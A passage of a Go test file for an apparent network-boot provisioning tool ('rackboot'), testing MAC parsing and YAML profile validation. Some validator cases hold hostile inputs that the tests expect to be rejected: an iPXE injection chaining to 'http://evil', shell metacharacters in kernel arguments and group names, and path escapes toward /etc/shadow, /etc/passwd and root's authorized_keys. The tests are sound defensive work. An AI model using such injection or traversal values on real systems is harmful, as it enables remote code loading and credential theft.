package profiles

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParseMAC(t *testing.T) {
	for _, in := range []string{"52:54:00:AA:bb:0c", "52-54-00-aa-bb-0c", "5254.00aa.bb0c", "525400aabb0c", "525400AABB0C", " 52:54:00:aa:bb:0c "} {
		t.Run(in, func(t *testing.T) {
			hw, err := ParseMAC(in)
			if err != nil {
				t.Fatal(err)
			}
			if got := MACKey(hw); got != "52:54:00:aa:bb:0c" {
				t.Errorf("ParseMAC(%q) = %s", in, got)
			}
		})
	}
	for _, in := range []string{"", "52:54:00:aa:bb", "52:54:00:aa:bb:cc:dd:ee", "zz:54:00:aa:bb:0c",
		"52:54-00:aa:bb:0c", "525400aabb0", "00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00"} {
		t.Run("bad "+in, func(t *testing.T) {
			if _, err := ParseMAC(in); err == nil {
				t.Errorf("ParseMAC(%q) succeeded", in)
			}
		})
	}
}

func TestParseMACPrefix(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []byte
	}{
		{"52", []byte{0x52}},
		{"52:54:00", []byte{0x52, 0x54, 0x00}},
		{"52-54-00-AB", []byte{0x52, 0x54, 0x00, 0xab}},
		{"525400ab", []byte{0x52, 0x54, 0x00, 0xab}},
		{"52:54:00:aa:bb", []byte{0x52, 0x54, 0x00, 0xaa, 0xbb}},
	} {
		t.Run(tc.in, func(t *testing.T) {
			got, err := parseMACPrefix(tc.in)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	for _, in := range []string{"", "5", "52:5", "52::54", "52:54:00:aa:bb:cc", "xy", "525"} {
		t.Run("bad "+in, func(t *testing.T) {
			if p, err := parseMACPrefix(in); err == nil {
				t.Errorf("parseMACPrefix(%q) = %x", in, p)
			}
		})
	}
}

func TestLookupIsByNormalisedMAC(t *testing.T) {
	set := mustLoad(t, map[string]string{"a.yaml": "hosts:\n  - mac: 5254.00AB.CDEF\n    hostname: n1\n"})
	for _, spelling := range []string{"52-54-00-ab-cd-ef", "52:54:00:AB:CD:EF", "525400abcdef"} {
		if h, ok := set.Lookup(mustMAC(t, spelling)); !ok || h.Hostname != "n1" || h.Installer != nil {
			t.Errorf("Lookup(%s) = %+v, %v", spelling, h, ok)
		}
	}
	if _, ok := set.Lookup(mustMAC(t, "52:54:00:ab:cd:e0")); ok {
		t.Error("Lookup of an unknown MAC succeeded")
	}
	if _, ok := set.Lookup([]byte{1, 2, 3}); ok {
		t.Error("Lookup of a 3-byte address succeeded")
	}
	var none *Set
	if _, ok := none.Lookup(mustMAC(t, "52-54-00-ab-cd-ef")); ok || none.DefaultInstaller() != nil || none.Len() != 0 {
		t.Error("a nil Set is not empty")
	}
}

func TestLookupDoesNotAllocate(t *testing.T) {
	set := mustLoad(t, map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n"})
	mac := mustMAC(t, "52:54:00:00:00:01")
	if n := testing.AllocsPerRun(100, func() { set.Lookup(mac) }); n != 0 {
		t.Errorf("Lookup allocates %v times", n)
	}
}

func TestLoadExamples(t *testing.T) {
	set, err := Load("../examples")
	if err != nil {
		t.Fatal(err)
	}
	if got := []int{set.Len(), len(set.Groups()), len(set.Versions()), len(set.Layouts())}; !cmp.Equal(got, []int{7, 4, 2, 2}) {
		t.Errorf("hosts, groups, versions, layouts = %v", got)
	}
	// The end-to-end test and the demo boot these three.
	for _, tc := range []struct{ mac, hostname string }{
		{"52:54:00:77:00:01", "r1-n01"}, {"52:54:00:77:00:02", "r1-n02"}, {"52:54:00:77:00:03", "r1-n03"},
	} {
		h, ok := set.Lookup(mustMAC(t, tc.mac))
		if !ok {
			t.Fatalf("%s not found", tc.mac)
		}
		in := h.Installer
		if h.Hostname != tc.hostname || in == nil || in.Kernel != "vmlinuz" || in.Initrd != "initrd.img" ||
			!strings.Contains(in.Cmdline, "console=ttyS0,115200") {
			t.Errorf("%s = %s %+v", tc.mac, h.Hostname, in)
		}
	}
	if h, _ := set.Lookup(mustMAC(t, "52:54:00:77:00:03")); !strings.Contains(h.Installer.Cmdline, "loglevel=7") {
		t.Errorf("r1-n03 lost its own installer: %+v", h.Installer)
	}
	if h, _ := set.Lookup(mustMAC(t, "52:54:00:77:00:02")); h.Installer != set.DefaultInstaller() {
		t.Errorf("r1-n02 does not share the default installer: %+v", h.Installer)
	}
	// Every host has a plan whose config drive is well-formed.
	for _, h := range set.Hosts() {
		p, err := Planner{}.Plan(h, nil, nil, "http://192.0.2.1:8080")
		if err != nil {
			t.Errorf("%s: %v", h.Hostname, err)
			continue
		}
		checkConfigDrive(t, h, p)
	}
}

func TestLoadErrors(t *testing.T) {
	const host = "hosts:\n  - mac: 52:54:00:00:00:01\n    hostname: n1\n"
	cat := map[string]string{"catalog.yaml": testCatalog}
	with := func(files map[string]string) map[string]string {
		out := map[string]string{"catalog.yaml": testCatalog}
		for k, v := range files {
			out[k] = v
		}
		return out
	}
	_ = cat
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string // each error, as printed
	}{
		// YAML and keys
		{"unknown key", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    hostnmae: x\n"},
			[]string{`a.yaml:3: unknown key "hostnmae" in a host (did you mean "hostname"?)`}},
		{"unknown top-level key", map[string]string{"a.yaml": "host:\n  - mac: 52:54:00:00:00:01\n"},
			[]string{`a.yaml:1: unknown key "host" in a profiles file (want defaults, versions, layouts, groups, hosts) (did you mean "hosts"?)`}},
		{"unknown key in defaults", map[string]string{"a.yaml": "defaults:\n  kernelargs: quiet\n"},
			[]string{`a.yaml:2: unknown key "kernelargs" in defaults (did you mean "kernel_args"?)`}},
		{"not a mapping", map[string]string{"a.yaml": "- mac: 52:54:00:00:00:01\n"},
			[]string{"a.yaml:1: cannot unmarshal !!seq into a profiles file"}},
		{"hosts not a list", map[string]string{"a.yaml": "hosts: {mac: 52:54:00:00:00:01}\n"},
			[]string{"a.yaml:1: cannot unmarshal !!map into a list of hosts"}},
		{"unknown key deep", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: smallest, minsize: 1G}\n"},
			[]string{`a.yaml:3: unknown key "minsize" in a disk (did you mean "min_size"?)`}},
		{"syntax", map[string]string{"a.yaml": "hosts: [\n"},
			[]string{"a.yaml:1: did not find expected node content"}},
		{"type", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: eleven\n"},
			[]string{"a.yaml:3: cannot unmarshal !!str `eleven` into int"}},
		{"duplicate key", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    mac: 52:54:00:00:00:02\n"},
			[]string{`a.yaml:3: mapping key "mac" already defined at line 2`}},
		{"two documents", map[string]string{"a.yaml": "hosts: []\n---\nhosts: []\n"},
			[]string{"a.yaml:2:1: a profiles file holds one YAML document; split it into files instead of using ---"}},

		// hosts
		{"bad mac", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00\n"},
			[]string{`a.yaml:2:10: invalid MAC address "52:54:00"`}},
		{"duplicate mac across files", map[string]string{
			"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n",
			"b.yml":  "hosts:\n  - {mac: 52-54-00-00-00-01}\n"},
			[]string{"b.yml:2:11: host 52:54:00:00:00:01 already defined at a.yaml:2"}},
		{"bad hostname", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    hostname: -bad_name\n"},
			[]string{`a.yaml:3:15: invalid hostname "-bad_name": want RFC 1123 labels (letters, digits, '-'), at most 253 characters`}},
		{"duplicate hostname", map[string]string{"a.yaml": "hosts:\n  - {mac: 52:54:00:00:00:01, hostname: n1}\n  - {mac: 52:54:00:00:00:02, hostname: N1}\n"},
			[]string{`a.yaml:3:40: hostname N1 already used by host 52:54:00:00:00:01 (a.yaml:2)`}},
		{"bad label", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    labels: {rack: \"r 1\"}\n"},
			[]string{`a.yaml:3:20: invalid label value "r 1": want letters, digits, '.', '_', '-', at most 63 characters`}},
		{"newline in a name", map[string]string{"a.yaml": host + "    group: \"a\\nb\"\n"},
			[]string{`a.yaml:4:12: group: invalid name "a\nb": want letters, digits, '.', '_', '-', at most 63 characters`, `a.yaml:4:12: unknown group a\nb`}},
		{"unknown group", map[string]string{"a.yaml": host + "    group: nope\n"},
			[]string{`a.yaml:4:12: unknown group nope`}},
		{"unknown version", with(map[string]string{"a.yaml": host + "    version: v9\n    layout: l1\n"}),
			[]string{`a.yaml:4:14: unknown version v9`}},
		{"unknown channel", with(map[string]string{"a.yaml": host + "    channel: beta\n    layout: l1\n"}),
			[]string{`a.yaml:4:14: unknown channel beta: no version has channel: beta`}},
		{"unknown layout", with(map[string]string{"a.yaml": host + "    version: v1\n    layout: l9\n"}),
			[]string{`a.yaml:5:13: unknown layout l9`}},
		{"version and channel", with(map[string]string{"a.yaml": host + "    version: v1\n    channel: stable\n    layout: l1\n"}),
			[]string{`a.yaml:5:5: version and channel exclude each other: name a version, or a channel to follow`}},
		{"version without installer", with(map[string]string{"a.yaml": "versions:\n  - {name: v9, number: 9, image: {url: a.img, sha256: \"" + testSHA + "\"}}\n" + host + "    version: v9\n    layout: l1\n"}),
			[]string{`a.yaml:4:10: host 52:54:00:00:00:01: version v9 (from host) has no installer, and none is set for the host: it could not boot to be installed`}},
		{"version needs hostname", with(map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    version: v1\n    layout: l1\n"}),
			[]string{`a.yaml:2:5: host 52:54:00:00:00:01: a host with a version needs a hostname: it names the installed machine`}},

		// installers and kernel arguments: what reaches the iPXE script
		{"script injection in cmdline", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: vmlinuz\n    cmdline: \"a ${x} ; chain http://evil\"\n"},
			[]string{`a.yaml:4:14: installer cmdline: character '$' not allowed in kernel arguments`}},
		{"newline in cmdline", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: vmlinuz\n    cmdline: \"a\\nshell\"\n"},
			[]string{`a.yaml:4:14: installer cmdline: character '\n' not allowed in kernel arguments`}},
		{"reserved arg", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: vmlinuz\n    cmdline: rackboot.server=http://x\n"},
			[]string{`a.yaml:4:14: installer cmdline: rackboot.server=http://x: rackboot.* arguments are set by rackboot, not by profiles (rackboot.after excepted)`}},
		{"bad after", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: vmlinuz\n    cmdline: rackboot.after=halt\n"},
			[]string{`a.yaml:4:14: installer cmdline: rackboot.after=halt: want rackboot.after=reboot or rackboot.after=poweroff`}},
		{"xfs too small", map[string]string{"a.yaml": mountLayout("{name: a, size: 299MiB, type: linux, filesystem: xfs}")},
			[]string{`a.yaml:6:25: layout l partition a: size 299MiB: filesystem xfs needs at least 300MiB (mkfs.xfs makes no smaller one)`}},
		{"unknown filesystem", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: btrfs}")},
			[]string{`a.yaml:6:56: layout l partition a: filesystem "btrfs": want vfat, ext4, xfs or swap`}},
		{"metachar in kernel_args", map[string]string{"a.yaml": host + "    kernel_args: \"quiet; shell\"\n"},
			[]string{`a.yaml:4:18: kernel_args: character ';' not allowed in kernel arguments`}},
		{"path escape", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: ../../etc/shadow\n"},
			[]string{`a.yaml:3:13: installer kernel: "../../etc/shadow": path leaves the artifacts directory`}},
		{"absolute path", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: /boot/vmlinuz\n"},
			[]string{`a.yaml:3:13: installer kernel: "/boot/vmlinuz": artifact paths are relative to the artifacts directory`}},
		{"ftp url", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: ftp://x/vmlinuz\n"},
			[]string{`a.yaml:3:13: installer kernel: "ftp://x/vmlinuz": only http and https URLs or artifact paths are allowed`}},
		{"scheme without slashes", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: file:vmlinuz\n"},
			[]string{`a.yaml:3:13: installer kernel: "file:vmlinuz": only http and https URLs or artifact paths are allowed`}},
		{"unclean path", map[string]string{"a.yaml": "defaults:\n  installer:\n    kernel: a//vmlinuz\n"},
			[]string{`a.yaml:3:13: installer kernel: "a//vmlinuz": not a clean path (want "a/vmlinuz")`}},
		{"missing kernel", map[string]string{"a.yaml": "hosts:\n  - mac: 52:54:00:00:00:01\n    installer: {initrd: i}\n"},
			[]string{`a.yaml:3:16: installer: kernel is required`}},
		{"defaults twice", map[string]string{
			"a.yaml": "defaults:\n  installer: {kernel: k}\n",
			"b.yaml": "defaults:\n  installer: {kernel: k}\n"},
			[]string{`b.yaml:2:3: defaults already defined at a.yaml:2`}},

		// versions
		{"version name", map[string]string{"a.yaml": "versions:\n  - name: \"demo 1\"\n    number: 1\n    image: {url: a.img, sha256: \"" + testSHA + "\"}\n"},
			[]string{`a.yaml:2:11: version: invalid name "demo 1": want letters, digits, '.', '_', '-', at most 63 characters`}},
		{"version sha256", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    image: {url: a.img, sha256: abc}\n"},
			[]string{`a.yaml:4:33: version v: image sha256 must be 64 hex digits`}},
		{"version image url", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    image: {url: \"http://x/a b.img\", sha256: \"" + testSHA + "\"}\n"},
			[]string{`a.yaml:4:18: version v: image url: "http://x/a b.img": character ' ' not allowed`}},
		{"version without image", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n"},
			[]string{`a.yaml:2:5: version v: image url is required`, `a.yaml:2:5: version v: image sha256 must be 64 hex digits`}},
		{"version format", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    image: {url: a.img, sha256: \"" + testSHA + "\", format: bzip2}\n"},
			[]string{`a.yaml:4:109: version v: image format "bzip2": want raw, gzip, zstd, xz or chunked`}},
		{"chunked image elsewhere", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    image: {url: \"https://x/v.rbidx\", sha256: \"" + testSHA + "\"}\n"},
			[]string{`a.yaml:4:18: version v: a chunked image must be an index in the artifacts directory (images/NAME.rbidx, written by rackboot image add), not https://x/v.rbidx`}},
		{"version kind", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: 1\n    image: {url: a.img, sha256: \"" + testSHA + "\", kind: disk}\n"},
			[]string{`a.yaml:4:107: version v: image kind "disk": want whole-disk or partitions`}},
		{"version negative number", map[string]string{"a.yaml": "versions:\n  - name: v\n    number: -1\n    image: {url: a.img, sha256: \"" + testSHA + "\"}\n"},
			[]string{`a.yaml:3:13: version v: number must not be negative`}},
		{"duplicate version", with(map[string]string{"a.yaml": "versions:\n  - name: v1\n    number: 7\n    image: {url: a.img, sha256: \"" + testSHA + "\"}\n"}),
			[]string{`catalog.yaml:2:11: version v1 already defined at a.yaml:2`}},
		{"duplicate number in channel", with(map[string]string{"a.yaml": "versions:\n  - name: v3\n    number: 1\n    channel: stable\n    image: {url: a.img, sha256: \"" + testSHA + "\"}\n"}),
			[]string{`catalog.yaml:3:13: version v1 has number 1, like version v3 (a.yaml:2) of the same channel "stable": numbers order a channel`}},

		// layouts
		{"disk path and select", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {path: /dev/sda, select: smallest}\n"},
			[]string{`a.yaml:3:28: layout l: disk path and select exclude each other`}},
		{"disk without rule", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {min_size: 8GiB}\n"},
			[]string{`a.yaml:3:11: layout l: disk needs a path or a select rule (smallest or largest)`}},
		{"disk path outside /dev", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {path: /etc/passwd}\n"},
			[]string{`a.yaml:3:18: layout l: disk path "/etc/passwd": want a device under /dev/`}},
		{"disk path escape", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {path: /dev/../etc/passwd}\n"},
			[]string{`a.yaml:3:18: layout l: disk path "/dev/../etc/passwd": not a clean path`}},
		{"disk select", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: biggest}\n"},
			[]string{`a.yaml:3:20: layout l: disk select "biggest": want smallest or largest`}},
		{"disk type", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest, type: tape}\n"},
			[]string{`a.yaml:3:35: layout l: disk type "tape": want ssd, hdd or nvme`}},
		{"size unit", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: p, size: 5 parsecs, type: linux}\n"},
			[]string{`a.yaml:5:25: layout l partition p: invalid size "5 parsecs": want a number and a unit (B, KiB, MiB, GiB, TiB; KB, MB, GB, TB)`}},
		{"size alignment", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: p, size: 512MB, type: linux}\n"},
			[]string{`a.yaml:5:25: layout l partition p: size 512MB is not a multiple of 1MiB (partitions are 1 MiB aligned)`}},
		{"size overflow", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: p, size: 99999999999999TiB, type: linux}\n"},
			[]string{`a.yaml:5:25: layout l partition p: invalid size "99999999999999TiB": too large`}},
		{"rest not last", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: rest, type: linux}\n      - {name: b, size: 1GiB, type: linux}\n"},
			[]string{`a.yaml:5:25: layout l partition a: size rest is allowed on the last partition only`}},
		{"partition type", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: ntfs}\n"},
			[]string{`a.yaml:5:37: layout l partition a: type "ntfs": want esp, linux-root, linux, swap or bios-boot`}},
		{"partition content", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: linux, content: data}\n"},
			[]string{`a.yaml:5:53: layout l partition a: content "data": want image, empty or config`}},
		{"partition name", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: \"my data\", size: 1GiB, type: linux}\n"},
			[]string{`a.yaml:5:16: layout l: invalid partition name "my data": want letters, digits, '.', '_', '-', at most 36 characters`}},
		{"duplicate partition", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: linux}\n      - {name: a, size: 1GiB, type: linux}\n"},
			[]string{`a.yaml:6:16: layout l: partition "a" defined twice`}},
		{"preserve image", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: linux, content: image, preserve: true}\n"},
			[]string{`a.yaml:5:70: layout l partition a: only a partition with content empty holds data to preserve`}},
		{"preserve esp", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: esp, preserve: true}\n"},
			[]string{`a.yaml:5:52: layout l partition a: a esp partition belongs to the system and is rewritten on reinstall`}},
		{"esp filesystem", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: esp, filesystem: ext4}\n"},
			[]string{`a.yaml:5:54: layout l partition a: an EFI system partition is vfat (UEFI 2.x section 13.3)`}},
		{"two esp", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: esp}\n      - {name: b, size: 1GiB, type: esp}\n"},
			[]string{`a.yaml:6:9: layout l: only one esp partition allowed`}},
		{"image filesystem", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 1GiB, type: linux, content: image, filesystem: ext4}\n"},
			[]string{`a.yaml:5:72: layout l partition a: a partition with content image gets its filesystem from the image`}},
		{"config type", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest}\n    partitions:\n      - {name: a, size: 16MiB, type: esp, content: config}\n"},
			[]string{`a.yaml:5:38: layout l partition a: the config drive partition has type linux`}},
		{"min_size too small", map[string]string{"a.yaml": "layouts:\n  - name: l\n    disk: {select: largest, min_size: 1GiB}\n    partitions:\n      - {name: a, size: 1GiB, type: linux}\n      - {name: b, size: 512MiB, type: linux}\n"},
			[]string{`a.yaml:3:39: layout l: the partitions need 1536MiB, more than min_size 1GiB`}},
		{"duplicate layout", with(map[string]string{"a.yaml": "layouts:\n  - name: l1\n    disk: {select: largest}\n"}),
			[]string{`catalog.yaml:13:11: layout l1 already defined at a.yaml:2`}},

		// groups
		{"group mac not a host", map[string]string{"a.yaml": "groups:\n  - name: g\n    match: {mac: [52:54:00:00:00:09]}\n"},
			[]string{`a.yaml:3:19: group g: MAC 52:54:00:00:00:09 is not a host: add it under hosts:`}},
		{"group bad mac", map[string]string{"a.yaml": "groups:\n  - name: g\n    match: {mac: [52:54:00:00:00]}\n"},
			[]string{`a.yaml:3:19: group g: invalid MAC address "52:54:00:00:00"`}},
		{"group bad prefix", map[string]string{"a.yaml": "groups:\n  - name: g\n    match: {mac_prefix: \"52:5\"}\n"},
			[]string{`a.yaml:3:25: group g: invalid MAC prefix "52:5": want two hex digits per octet`}},
		{"group bad label", map[string]string{"a.yaml": "groups:\n  - name: g\n    match: {labels: {\"-rack\": r1}}\n"},
			[]string{`a.yaml:3:31: group g: invalid label key "-rack": want letters, digits, '.', '_', '/', '-', at most 63 characters`}},
		{"duplicate group", map[string]string{"a.yaml": "groups:\n  - name: g\n  - name: g\n"},
			[]string{`a.yaml:3:11: group g already defined at a.yaml:2`}},

		// network
		{"address", map[string]string{"a.yaml": host + "    network: {address: 10.0.0.300/24}\n"},
			[]string{`a.yaml:4:24: network: invalid address "10.0.0.300/24": want an address with prefix length, e.g. 10.0.1.11/24`}},
		{"address without prefix", map[string]string{"a.yaml": host + "    network: {address: 10.0.0.3}\n"},
			[]string{`a.yaml:4:24: network: invalid address "10.0.0.3": want an address with prefix length, e.g. 10.0.1.11/24`}},
		{"network address", map[string]string{"a.yaml": host + "    network: {address: 10.0.0.0/24}\n"},
			[]string{`a.yaml:4:24: network: invalid address "10.0.0.0/24": that is the subnet's network address`}},
		{"dhcp and address", map[string]string{"a.yaml": host + "    network: {dhcp: true, address: 10.0.0.3/24}\n"},
			[]string{`a.yaml:4:15: network: dhcp excludes address and gateway`}},
		{"gateway outside subnet", map[string]string{"a.yaml": host + "    network: {address: 10.0.0.3/24, gateway: 10.0.1.1}\n"},
			[]string{`a.yaml:4:46: network: gateway 10.0.1.1 is outside the subnet of 10.0.0.3/24`}},
		{"gateway from group outside subnet", map[string]string{"a.yaml": "groups:\n  - {name: g, match: {mac_prefix: \"52\"}, network: {gateway: 10.9.0.1}}\n" + host + "    network: {address: 10.0.0.3/24}\n"},
			[]string{`a.yaml:4:10: host 52:54:00:00:00:01: network: gateway 10.9.0.1 is outside the subnet of 10.0.0.3/24 (gateway from group g, address from host)`}},
		{"address twice", map[string]string{"a.yaml": "groups:\n  - {name: g, match: {mac_prefix: \"52\"}, network: {address: 10.0.0.9/24}}\nhosts:\n  - {mac: 52:54:00:00:00:01, hostname: n1, network: {address: 10.0.0.5/24}}\n  - {mac: 52:54:00:00:00:02, hostname: n2, network: {address: 10.0.0.5/24}}\n  - {mac: 52:54:00:00:00:03, hostname: n3}\n  - {mac: 52:54:00:00:00:04, hostname: n4}\n"},
			[]string{`a.yaml:5:11: host 52:54:00:00:00:02: address 10.0.0.5 is already host 52:54:00:00:00:01's (a.yaml:4)`,
				`a.yaml:7:11: host 52:54:00:00:00:04: address 10.0.0.9 is already host 52:54:00:00:00:03's (a.yaml:6)`}},
		{"dns", map[string]string{"a.yaml": host + "    network: {dns: [10.0.0.1, ns1.example.com]}\n"},
			[]string{`a.yaml:4:31: network dns: invalid IP address "ns1.example.com"`}},
		{"search", map[string]string{"a.yaml": host + "    network: {search: [\"bad domain\"]}\n"},
			[]string{`a.yaml:4:24: network search: invalid domain "bad domain"`}},

		// users, keys, files: what reaches the config drive
		{"user name", map[string]string{"a.yaml": host + "    users: [{name: Root}]\n"},
			[]string{`a.yaml:4:20: invalid user name "Root": want a POSIX name ([a-z_][a-z0-9_-]*, at most 32 characters)`}},
		{"user group", map[string]string{"a.yaml": host + "    users: [{name: ops, groups: [\"wheel;rm\"]}]\n"},
			[]string{`a.yaml:4:34: user ops: invalid group name "wheel;rm"`}},
		{"plaintext password", map[string]string{"a.yaml": host + "    users: [{name: ops, password: hunter2}]\n"},
			[]string{"a.yaml:4:35: user ops: password: must be a crypt(3) hash, never plaintext (generate one with `mkpasswd -m sha-512`)"}},
		{"broken hash", map[string]string{"a.yaml": host + "    users: [{name: ops, password: $6$salt$tooshort}]\n"},
			[]string{"a.yaml:4:35: user ops: password: not a valid crypt(3) hash ($6$…, $y$…, $2b$…)"}},
		{"ssh key", map[string]string{"a.yaml": host + "    ssh_keys: [\"ssh-ed25519 AAAAnotbase64!! me@x\"]\n"},
			[]string{`a.yaml:4:16: ssh key "ssh-ed25519 AAAAnotbase64!! me@x": ssh: no key found; last parsing error for ignored line: illegal base64 data at input byte 2`}},
		{"ssh key with newline", map[string]string{"a.yaml": host + "    ssh_keys: [\"" + testKey + "\\n" + testKey2 + "\"]\n"},
			[]string{`a.yaml:4:16: ssh key: one key per entry, without newlines`}},
		{"user ssh key", map[string]string{"a.yaml": host + "    users: [{name: ops, ssh_keys: [\"ssh-rsa AAAA\"]}]\n"},
			[]string{`a.yaml:4:36: user ops: ssh key "ssh-rsa AAAA": ssh: no key found; last parsing error for ignored line: ssh: short read`}},
		{"file path relative", map[string]string{"a.yaml": host + "    files: [{path: etc/motd, content: hi}]\n"},
			[]string{`a.yaml:4:20: file path "etc/motd": want an absolute path`}},
		{"file path escape", map[string]string{"a.yaml": host + "    files: [{path: /etc/../root/.ssh/authorized_keys, content: hi}]\n"},
			[]string{`a.yaml:4:20: file path "/etc/../root/.ssh/authorized_keys": '..' not allowed`}},
		{"file mode", map[string]string{"a.yaml": host + "    files: [{path: /etc/motd, content: hi, mode: rw-r--r--}]\n"},
			[]string{`a.yaml:4:50: file /etc/motd: invalid mode "rw-r--r--": want octal permissions such as "0644"`}},
		{"file owner", map[string]string{"a.yaml": host + "    files: [{path: /etc/motd, content: hi, owner: \"root:root:x\"}]\n"},
			[]string{`a.yaml:4:51: file /etc/motd: invalid owner "root:root:x": want user or user:group`}},
		{"file twice", map[string]string{"a.yaml": host + "    files: [{path: /etc/motd, content: a}, {path: /etc/motd, content: b}]\n"},
			[]string{`a.yaml:4:51: file "/etc/motd" listed twice`}},
		{"user twice", map[string]string{"a.yaml": host + "    users: [{name: ops}, {name: ops}]\n"},
			[]string{`a.yaml:4:33: user "ops" listed twice`}},

		// mounts
		{"mount relative", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: data}")},
			[]string{`a.yaml:6:69: layout l partition a: mount "data": want an absolute path of letters, digits, '.', '_', '-' (or swap, for a swap partition)`}},
		{"mount system directory", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /usr/local}")},
			[]string{`a.yaml:6:69: layout l partition a: mount /usr/local: a directory of the installed system itself (/usr): an empty file system mounted there would hide what the image put there`}},
		{"mount var", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /var}")},
			[]string{`a.yaml:6:69: layout l partition a: mount /var: a directory of the installed system itself: an empty file system mounted over it would hide what the image put there`}},
		{"mount unclean", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /srv/../etc}")},
			[]string{`a.yaml:6:69: layout l partition a: mount "/srv/../etc": not a clean path`}},
		{"mount space", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /srv/my data}")},
			[]string{`a.yaml:6:69: layout l partition a: mount "/srv/my data": want an absolute path of letters, digits, '.', '_', '-' (or swap, for a swap partition)`}},
		{"swap at a path", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: swap, mount: /swap}")},
			[]string{`a.yaml:6:50: layout l partition a: mount "/swap": a swap partition has no mount point: write mount: swap to use it as swap`}},
		{"swap on ext4", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: swap}")},
			[]string{`a.yaml:6:69: layout l partition a: mount: swap needs filesystem swap, not ext4`}},
		{"mount without file system", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, mount: /a}")},
			[]string{`a.yaml:6:51: layout l partition a: mount needs filesystem ext4, xfs or swap (the file system the installed system mounts)`}},
		{"mount vfat", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: vfat, mount: /a}")},
			[]string{`a.yaml:6:69: layout l partition a: mount needs filesystem ext4, xfs or swap (the file system the installed system mounts)`}},
		{"mount image", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux-root, content: image, mount: /a}")},
			[]string{`a.yaml:6:72: layout l partition a: mount: only an empty partition is mounted by rackboot (content image is not)`}},
		{"mount twice", map[string]string{"a.yaml": mountLayout("{name: a, size: 1GiB, type: linux, filesystem: ext4, mount: /srv}\n      - {name: b, size: 1GiB, type: linux, filesystem: ext4, mount: /srv}")},
			[]string{`a.yaml:7:69: layout l partition b: mount /srv is partition a's already`}},
